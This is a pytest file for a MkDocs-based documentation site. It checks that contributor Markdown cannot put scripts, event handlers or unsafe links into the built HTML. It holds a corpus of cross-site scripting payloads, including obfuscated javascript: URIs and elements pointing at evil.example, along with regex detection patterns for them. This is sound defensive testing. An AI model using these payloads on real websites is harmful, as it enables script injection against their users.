"""Whatever a contributor writes in Markdown, the built page carries no script, no event handler, no
dangerous address, no element that could redirect, restyle or submit: the payloads of a known corpus are
written into a case and a page, and the built HTML is searched for what they tried to add."""

from __future__ import annotations

import json
import re
import subprocess

import pytest

from tests.support.building import build, warnings
from tests.support.paths import ADVOCACY
from tests.support.project import VALID_CASE, ProjectFactory, add_to_nav

pytestmark = pytest.mark.site


PAYLOADS = """
<script>alert(1)</script>

<img src=x onerror=alert(1)>

<svg onload=alert(1)><circle r="1"/></svg>

<iframe src="//evil.example/"></iframe>

<meta http-equiv="refresh" content="0;url=//evil.example/">

<base href="//evil.example/">

<form action="//evil.example/"><input name="q"><button>go</button></form>

<style>body { display: none }</style>

<object data="//evil.example/x"></object>

[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](&#106;avascript:alert(1)) [d](java&#9;script:alert(1))
[e](vbscript:msgbox) [f](data:text/html,<script>alert(1)</script>)

A paragraph with a handler.
{: onclick="alert(1)" style="color: red" }

<a href="javascript:alert(1)" onmouseover="alert(1)">raw link</a>
"""


FORBIDDEN = [
    re.compile(r"<\s*(script|svg|iframe|meta|base|form|input|button|style|object)\b", re.IGNORECASE),
    re.compile(r"<[^>]*\son[a-z]+\s*=", re.IGNORECASE),
    re.compile(r"<[^>]*\sstyle\s*=", re.IGNORECASE),
    re.compile(r"<[^>]*(href|src)\s*=\s*\"\s*(javascript|vbscript|data):", re.IGNORECASE),
]


def _article(html: str) -> str:
    """The page's article, without the theme's own "edit this page" button (an inline SVG icon)."""
    article = html[html.index("<article") : html.index("</article>")]
    return re.sub(r'<a [^>]*class="md-content__button md-icon"[^>]*>.*?</a>', "", article, flags=re.DOTALL)


def _assert_clean(html: str) -> None:
    for pattern in FORBIDDEN:
        assert pattern.search(html) is None, pattern.pattern


def test_payloads_in_a_page_leave_nothing_in_the_built_html(make_project: ProjectFactory) -> None:
    """Every payload of the corpus, in a documentation page, is gone from the built page."""
    project = make_project({"cases/blackout.md": VALID_CASE, "docs/guide.md": "# Guide\n" + PAYLOADS})
    add_to_nav(project, "guide.md")
    # Not strict: MkDocs itself warns about the encoded addresses, which it takes for relative links.
    result = build(project.root)
    assert result.returncode == 0, result.stderr
    html = _article((project.root / "site/guide/index.html").read_text(encoding="utf-8"))
    _assert_clean(html)
    assert "<p>A paragraph with a handler." in html
    assert "raw link" in html


def test_payloads_in_a_case_are_refused_by_the_validator_and_never_published(
    make_project: ProjectFactory,
) -> None:
    """A case carrying raw HTML or unsafe addresses is reported line by line and left out of the site."""
    case = VALID_CASE.replace("What we learned.", "What we learned.\n" + PAYLOADS)
    project = make_project({"cases/blackout.md": case})
    result = subprocess.run(
        [str(ADVOCACY), "validate", "--format", "json"],
        cwd=project.root,
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == 1
    problems = json.loads(result.stdout)
    messages = [p["message"] for p in problems if p["file"] == "cases/blackout.md"]
    raw = [m for m in messages if m.startswith("raw HTML (")]
    links = [m for m in messages if "is not an address a reader can follow safely" in m]
    assert {m.split(")")[0] for m in raw} >= {
        "raw HTML (<script>",
        "raw HTML (<img>",
        "raw HTML (<svg>",
        "raw HTML (<iframe>",
        "raw HTML (<meta>",
        "raw HTML (<base>",
        "raw HTML (<form>",
        "raw HTML (<style>",
        "raw HTML (<object>",
        "raw HTML (<a>",
    }
    assert sorted(m.split('"')[1] for m in links) == sorted(
        [
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)",
            "&#106;avascript:alert(1)",
            "java&#9;script:alert(1)",
            "vbscript:msgbox",
            "data:text/html,<script>alert(1)</script>",
        ]
    )
    build(project.root)
    assert not (project.root / "site/cases/blackout").exists()


def test_a_pages_title_and_description_cannot_add_markup(make_project: ProjectFactory) -> None:
    """Material prints a page's title and description as HTML: markup in them fails the strict build with
    their lines, and even a build that goes on prints none of it."""
    page = '---\ntitle: "Guide </title><script>alert(1)</script>"\ndescription: \'"><script>alert(2)</script>\'\n---\n\nText.\n'
    project = make_project({"cases/blackout.md": VALID_CASE, "docs/guide.md": page})
    add_to_nav(project, "guide.md")
    strict = build(project.root, "--strict")
    assert strict.returncode == 1
    assert warnings(strict.stderr) == [
        'WARNING -  advocacy: docs/guide.md:2: error: title: found the markup "</title>"; write plain text, '
        "without HTML tags",
        'WARNING -  advocacy: docs/guide.md:3: error: description: found the markup "<script>"; write plain '
        "text, without HTML tags",
    ]
    result = build(project.root)
    assert result.returncode == 0, result.stderr
    html = (project.root / "site/guide/index.html").read_text(encoding="utf-8")
    assert "<script>alert" not in html
    assert "alert(2)" not in html  # the refused description is not given to the theme at all
    assert "<title>Guide - Test hub</title>" in html
